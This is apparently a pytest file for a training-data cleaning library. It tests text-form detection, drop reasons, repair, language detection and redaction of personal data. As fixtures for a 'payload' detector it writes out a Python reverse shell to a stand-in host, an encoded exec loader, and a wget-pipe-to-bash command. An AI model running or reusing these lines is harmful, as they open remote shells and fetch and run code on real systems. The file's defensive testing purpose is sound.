"""Rules by form of row: what each drops or mends, what it must leave, and that no batch changes an answer."""

from __future__ import annotations

import json
import random

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from steelyard.data import KINDS, Row, clean_files, redact
from steelyard.data.facts import FORMS, LANGUAGES, facts_of
from steelyard.data.judging.judge import judge, plain_texts
from steelyard.data.questions import Questions
from steelyard.data.row import loose
from steelyard.data.rules import cues
from steelyard.data.steps import Rules, mended

PROSE = (
    "The lighthouse keeper wrote a letter to his sister every Sunday, and she answered in the week after. "
    "Most of the letters are lost. The few that survived describe the weather, the ships and a gar"
    "den of cabbages."
)
HAN = (
    "守塔人每个星期天都给妹妹写信，妹妹总在下一周回信。大部分信件已经遗失，保存下来的几封描述了天气、"
    "船只和一片菜园。"
)
GERMAN = (
    "Der Wärter schrieb jeden Sonntag einen Brief an seine Schwester, und sie antwortete in der Woche danach."
)

REVERSE = (
    "import socket,os,subprocess;c=socket.socket();c.connect(('h.example',4444));"
    "[os.dup2(c.fileno(),n) for n in (0,1,2)];subprocess.run(['/bin/bash','-i'])\n"
)
HIDDEN = "exec(__import__('zlib').decompress(__import__('base64').b85decode('c$_Hw0000000000')))\n"


def text(value, **raw):
    return Row("r", "a.jsonl", 1, text=value, raw={"text": value, **raw})


def chat(*turns):
    roles = ("user", "assistant")
    return Row(
        "r", "a.jsonl", 1, messages=tuple({"role": roles[n % 2], "content": c} for n, c in enumerate(turns))
    )


def reasons(row, **rules):
    return list(judge([row], Rules(**rules), Questions()).judged[0].reasons)


def form(value):
    return FORMS[facts_of([text(value)], cues()).form[0]]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (PROSE, "prose"),
        (HAN, "prose"),
        ("def area(r):\n    # of a circle\n    return 3.14 * r ** 2\n\nprint(area(2))", "code"),
        ("SELECT name, price\nFROM goods\nWHERE price > 10\nORDER BY price;", "code"),
        ("name,price,stock\npear,1.20,33\nplum,2.10,4\nfig,0.80,12", "table"),
        ("import a.b.One;\nimport a.b.Two;\nimport a.c.Three;\nimport a.c.Four;", "code"),
        ("| a | b |\n| --- | --- |\n| 1 | 2 |\n| 3 | 4 |", "table"),
        ("First, one.\nThen, two.\nLast, three.", "prose"),
    ],
)
def test_the_form_of_a_text(value, expected):
    assert form(value) == expected


SEARCHES = [
    f"{a} {b} {c}"
    for a in ("best", "cheap", "buy")
    for b in ("shoes", "boots")
    for c in ("price", "shop", "online")
]
SEARCHES = random.Random(3).choices(SEARCHES, k=40)


def shuffled(value, seed=0):
    pieces = value.split(" ") if " " in value else list(value)
    random.Random(seed).shuffle(pieces)
    return (" " if " " in value else "").join(pieces)


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        (PROSE, None),
        (HAN, None),
        (GERMAN, None),
        ("It rained.\n" * 60 + PROSE, "repetition"),
        ("下雨了我们回家吧" * 12, "repetition"),
        (PROSE[:60] + "#" * 200, "repeated_chars"),
        ("x7k#q 9bw%zt k2 vq8r pl0x4 zz9t qw3rt 8x8 v7n b2b kk9 r3t m1p q0q s5d w2w t6t z1z", "gibberish"),
        ("".join(map(chr, range(0x9F00, 0x9F40))), "gibberish"),
        (shuffled(PROSE * 2), "word_salad"),
        (shuffled(HAN * 2), "word_salad"),
        (" ".join(f"{n * 7919 % 9973}.{n}" for n in range(60)), "number_soup"),
        ("\n".join(f"https://shop{n}.example/item?ref={n}" for n in range(12)), "link_farm"),
        (", ".join(SEARCHES), "keyword_stuffing"),
        (" ".join(" ".join(word) for word in PROSE.split()), "scanned"),
        (" ".join(HAN), "scanned"),
        ("<|im_start|>user\nHello<|im_end|>\n" + PROSE, "template_leak"),
        ("Write `<|im_start|>user` before a turn. " + PROSE, None),
        ("A turn of ChatML opens with <|im_start|>user and ends with <|im_end|>. " + PROSE, None),
        ("Both {knobs} and {switches} are {twiddled}, says the file. " + PROSE, None),
        ("《夜》\n床前明月光，疑是地上霜。\n举头望明月，低头思故乡。\n"
         "客去波平槛，蝉休露满枝。\n永怀当此节，倚立自移时。", None),
        ("Let $x_n = \\frac{1}{n}$, $y_n = n x_n$ and $z = x + y$; then $x_n + y_n = z_n$ for n > 0.", None),
        (PROSE[:60] + "=-" * 100, "repeated_chars"),
        ("=" * 75 + "\n" + PROSE, None),
        (" ".join(SEARCHES), "keyword_stuffing"),
        ("\n".join(f'<a href="http://shop{n}.example/i{n}">good</a>' for n in range(12)), "link_farm"),
        (PROSE[:150] + "[...]", "cut_off"),
        (PROSE + " And then we went home...", None),
        ("".join("屯屯" if n % 5 == 0 else c for n, c in enumerate(HAN)), "lost_characters"),
        ("烫烫的茶，" + HAN, None),
        ("Lorem ipsum dolor sit amet, consectetur adipiscing elit. Insert text here.", "placeholder"),
        ("Work from home and earn $900 a day!!! Click here now, limited offer", "spam"),
        ("加微信领红包，轻松月入三万，名额有限", "spam"),
        ("You are a pathetic loser and everyone hates you. I will hunt you down and kill you.", "toxic"),
        ("The dumb terminal kills the parent process, then its garbage is collected. " + PROSE, None),
        (PROSE[:150] + "... Read more »", "cut_off"),
        (HAN[:40] + "……阅读全文", "cut_off"),
        ("data: " + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 20, "blob"),
        ("import os\nimport base64\nx = 1\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "payload"),
        ("import base64\nx = 1\ny = base64.b64decode(text)\nprint(x, y)\n", None),
        ("SELECT a\nFROM b\nWHERE c = 1;\nos.system('wget -qO- http://x.example/i.sh | bash')\n", "payload"),
        ("struct Node {\n    int v;\n};\n" + REVERSE, "payload"),
        (PROSE + "\n\n" + REVERSE, "payload"),
        (PROSE + "\n\n" + HIDDEN, "payload"),
        (PROSE + "\nThis is what the malware did:\n\n" + HIDDEN, None),
        (PROSE + "\n\n    " + HIDDEN + "\nis how the answer began.", None),
        ("import os\nimport subprocess\ns.connect(at)\nsubprocess.call(['/bin/sh', '-c', a])\n", None),
        ("A note" + "\u200b\u200d\u200b\u200c" + " on ships. " + PROSE, "hidden_marks"),
    ],
)  # fmt: skip
def test_what_one_text_is_dropped_for(value, reason):
    got = reasons(text(value))
    assert got[:1] == ([reason] if reason else []), got
    if reason:
        assert reason not in reasons(text(value), off=(reason,))


@pytest.mark.parametrize(
    ("value", "expected", "done"),
    [
        ("FlÃ¼sse und StÃ¤dte", "Flüsse und Städte", ["misread"]),
        ("a\x00b \u200bc\u00ad", "ab c", ["marks"]),
        ("नमस्\u200dते 👩\u200d🚀", "नमस्\u200dते 👩\u200d🚀", []),
        ("Tea &amp; <b>milk</b><br/>", "Tea & milk", ["html"]),
        ("Use `<br>` to break.", "Use `<br>` to break.", []),
        ("Write to <address> first.", "Write to <address> first.", []),
        ("An <address>old</address> house.", "An old house.", ["html"]),
        (f"{PROSE}\n« Older posts | Newer posts »\nFiled under: News | 3 Comments", PROSE, ["furniture"]),
        (f"Home | News | Shop | Login\n{PROSE}\n© 2020 Example. All rights reserved.", PROSE, ["furniture"]),
        (f"首页 | 新闻 | 商城 | 登录\n{HAN}\n版权所有 © 示例网", HAN, ["furniture"]),
        (f"| a | b | c |\n{PROSE}", f"| a | b | c |\n{PROSE}", []),
    ],
)
def test_what_is_mended(value, expected, done):
    assert mended(value, prose=True) == (expected, done)


def test_a_page_becomes_its_text():
    page = (
        "<!DOCTYPE html><html><head><style>p{margin:0}</style></head><body><p>One.</p><p>Two.</p></bod"
        "y></html>"
    )
    assert mended(page, prose=True)[0].split() == ["One.", "Two."]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("card 4111 1111 1111 1111", "card <CARD_1>"),
        ("card 4111 1111 1111 1112", "card 4111 1111 1111 1112"),  # Luhn
        ("order number 4111111111111111", "order number 4111111111111111"),
        ("身份证号：11010519491231002X", "身份证号：<ID_1>"),
        ("零件110105194912310021", "零件110105194912310021"),  # check digit
        ("pay to GB82 WEST 1234 5698 7654 32 today", "pay to <IBAN_1> today"),
        ("pay to GB83 WEST 1234 5698 7654 32 today", "pay to GB83 WEST 1234 5698 7654 32 today"),  # mod 97
        ("from 8.8.121.7 and 10.0.0.1", "from <IP_1> and 10.0.0.1"),
        ("version 4.12.33.101", "version 4.12.33.101"),
        ("at 12:30:45 from 2001:4860:4860:0:0:0:0:8888", "at 12:30:45 from <IP_1>"),
        ("named 2a01:ac48:e476:969d::654d:7ac6 in it", "named <IP_1> in it"),
        ("std::vector and a::b at 10::30", "std::vector and a::b at 10::30"),
        ("条码旁边的数字6901234567892", "条码旁边的数字6901234567892"),  # thirteen digits: goods
        ("VX：kim_2020，备注", "VX：<ACCOUNT_1>，备注"),
        ("Name: Serbian Dinar\nCode: RSD\n\nName: Malawi Kwacha\nCode: MWK", 
        "Name: Serbian Dinar\nCode: RSD\n\nName: Malawi Kwacha\nCode: MWK"),
        ("mail kim [at] post [dot] example, or kim@post.example", "mail <EMAIL_1>, or <EMAIL_1>"),
        ("token = 'ghp_" + "a1B2c3D4e5F6" * 3 + "'", "token = '<KEY_1>'"),
        ("password: correcthorsebattery", "password: correcthorsebattery"),
        ("收件人：欧阳小明，地址：浙江省杭州市西湖区文三路90号5幢301室", 
        "收件人：<NAME_1>，地址：<ADDRESS_1>"),
        ("姓名：陈晓\n陈晓已签收", "姓名：<NAME_1>\n<NAME_1>已签收"),
        ("微信号：kim_2020，护照号E12345678", "微信号：<ACCOUNT_1>，护照号<PASSPORT_1>"),
        ("Name: Kim Larsen\nAddress: 12 Mill Lane, Leeds LS1 4AP", "Name: <NAME_1>\nAddress: <ADDRESS_1>"),
        ("Her SSN is 219-09-9999.", "Her SSN is <SSN_1>."),
    ],
)  # fmt: skip
def test_personal_data_by_its_checks(value, expected):
    assert redact([value])[0] == [expected]


def test_a_private_key_goes_whole():
    key = "-----BEGIN RSA PRIVATE KEY-----\nabc\ndef\n-----END RSA PRIVATE KEY-----"
    assert redact([f"keep\n{key}\nthis"])[0] == ["keep\n<KEY_1>\nthis"]


@pytest.mark.parametrize(
    ("value", "language"),
    [(PROSE, "en"), (HAN, "zh"), (GERMAN, "de"), ("Привет, как дела? Мы пошли домой.", "ru"),
     ("昨日は友達と一緒に山へ行きました。とても楽しかったです。", "ja"), (
     "어제 친구와 함께 산에 갔습니다. 정말 즐거웠어요.", "ko"), ("12 + 30", "none")],
)  # fmt: skip
def test_the_language_of_a_text(value, language):
    assert LANGUAGES[facts_of([text(value)], cues()).language[0]] == language


ROWS = st.one_of(
    st.text(max_size=80).map(text),
    st.sampled_from([PROSE, HAN, GERMAN, "a\u0301 \u00bd ﬁ ＡＢ ß ς", "x" * 90, ""]).map(text),
    st.lists(st.text(max_size=30), min_size=1, max_size=4).map(lambda turns: chat(*turns)),
)


@given(st.lists(ROWS, min_size=1, max_size=8))
@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
def test_any_size_of_batch_says_the_same(rows):
    together = judge(rows, Rules(), Questions()).judged
    alone = [judge([row], Rules(), Questions()).judged[0] for row in rows]
    assert [(j.reasons, j.key, j.prompt, j.row) for j in together] == [
        (j.reasons, j.key, j.prompt, j.row) for j in alone
    ]


@given(st.lists(st.text(max_size=120), min_size=1, max_size=6))
@settings(max_examples=200, deadline=None)
def test_the_arrays_give_the_same_plain_text(values):
    """The key of a plain text is taken from the arrays; it has to be the one that `loose` gives."""
    rows = [text(value + " and forty letters more, so that it counts as long prose") for value in values]
    for row, plain in zip(rows, plain_texts(facts_of(rows, cues())), strict=True):
        assert plain is None or plain == loose(row.text)


def test_a_token_has_one_hash_wherever_it_stands():
    one = facts_of([text("ship Ｓhip 船"), text("the ship")], cues()).tokens
    assert one.hash[0] == one.hash[1] == one.hash[4] and len(np.unique(one.hash)) == 3


def write(path, rows):
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def test_rules_may_be_turned_off_and_a_dry_run_writes_no_rows(tmp_path):
    assert {"spam", "near_duplicate", "html"} <= set(KINDS)
    spam = "Work from home and earn $900 a day!!! Click here now, limited offer"
    source = write(tmp_path / "a.jsonl", [{"text": PROSE}, {"text": spam}])
    told = clean_files(source, tmp_path / "dry", dry_run=True)
    assert told["by_reason"] == {"spam": 1}
    assert sorted(p.name for p in (tmp_path / "dry").iterdir()) == ["dropped.jsonl", "report.json"]
    assert clean_files(source, tmp_path / "all", settings={"off": ("spam",)})["kept"] == 2
